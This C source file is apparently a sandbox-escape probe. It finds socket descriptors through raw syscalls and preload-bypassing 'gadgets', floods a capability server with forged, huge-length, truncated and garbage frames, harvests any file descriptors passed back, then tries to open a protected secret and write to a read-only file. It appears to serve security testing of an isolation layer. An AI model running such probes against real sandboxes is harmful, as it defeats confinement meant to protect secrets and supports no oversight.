/* Writes forged and truncated frames to every socket fd (the handler's
 * connections to the capability server), then tries to open the secret. */
#include "attack.h"
#include <sys/stat.h>
#include <sys/socket.h>
#include "gadget_scan.h"
static long SEND(int fd, const void *b, long n, int fl) {
    long r = ncand ? call_gadget(cands[0], SYS_sendto, fd, (long)b, n, fl) : raw(SYS_sendto, fd, b, n, fl);
    return r;
}
int main(int argc, char **argv) {
    ARGS
    char *victim = cat2(ro, "/victim");
    int socks[64], ns = 0;
    find_gadgets();
    /* through the handler, then through ld-preld's gate (the handler may hide its own fds) */
    for (int fd = 0; fd < 65536; fd++) {
        struct stat st;
        int hit = fd < 1024 && raw(SYS_fstat, fd, &st, 0, 0) == 0 && S_ISSOCK(st.st_mode);
        for (int g = 0; !hit && g < ncand && g < 4; g++)
            hit = call_gadget(cands[g], SYS_fstat, fd, (long)&st, 0, 0) == 0 && S_ISSOCK(st.st_mode);
        if (hit && ns < 64) socks[ns++] = fd;
    }
    printf("sockets: %d\n", ns);
    fflush(stdout);
    /* one forged frame per socket: a plausible header with the secret path, a
     * huge length, a truncated header, garbage */
    unsigned char frame[512];
    for (int i = 0; i < ns; i++) {
        int fd = socks[i];
        memset(frame, 0, sizeof frame);
        unsigned len = strlen(secret);
        /* guess: u32 len, u16 version, u16 op, then the path */
        unsigned tot = 8 + len;
        memcpy(frame, &tot, 4);
        frame[4] = 1; frame[6] = 1;
        memcpy(frame + 8, secret, len);
        long r = SEND(fd, frame, tot, MSG_DONTWAIT | MSG_NOSIGNAL);
        printf("fd %d forged open frame: %ld\n", fd, r);
        unsigned huge = 0xffffffffu;
        r = SEND(fd, &huge, 4, MSG_DONTWAIT | MSG_NOSIGNAL);
        printf("fd %d huge length: %ld\n", fd, r);
        r = SEND(fd, frame, 3, MSG_DONTWAIT | MSG_NOSIGNAL);
        printf("fd %d truncated: %ld\n", fd, r);
        for (int k = 0; k < (int)sizeof frame; k++) frame[k] = (unsigned char)(k * 131 + 7);
        r = SEND(fd, frame, sizeof frame, MSG_DONTWAIT | MSG_NOSIGNAL);
        printf("fd %d garbage: %ld\n", fd, r);
        /* read whatever the server replies, with fds */
        char rb[512];
        char cbuf[CMSG_SPACE(16 * sizeof(int))];
        struct iovec iov = { rb, sizeof rb };
        struct msghdr mh = { 0, 0, &iov, 1, cbuf, sizeof cbuf, 0 };
        r = (ncand ? call_gadget(cands[0], SYS_recvmsg, fd, (long)&mh, MSG_DONTWAIT, 0) : raw(SYS_recvmsg, fd, &mh, MSG_DONTWAIT, 0));
        printf("fd %d reply: %ld\n", fd, r);
        if (r >= 0) {
            for (struct cmsghdr *c = CMSG_FIRSTHDR(&mh); c; c = CMSG_NXTHDR(&mh, c))
                if (c->cmsg_type == SCM_RIGHTS)
                    for (unsigned j = 0; j < (c->cmsg_len - CMSG_LEN(0)) / sizeof(int); j++)
                        show("fd received from forged frame", ((int *)CMSG_DATA(c))[j]);
        }
        fflush(stdout);
    }
    show("libc open secret after forging", lc(open(secret, O_RDONLY)));
    show("raw openat secret after forging", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    try_write_ro("libc open ro/victim O_WRONLY after forging", lc(open(victim, O_WRONLY)));
    return 0;
}
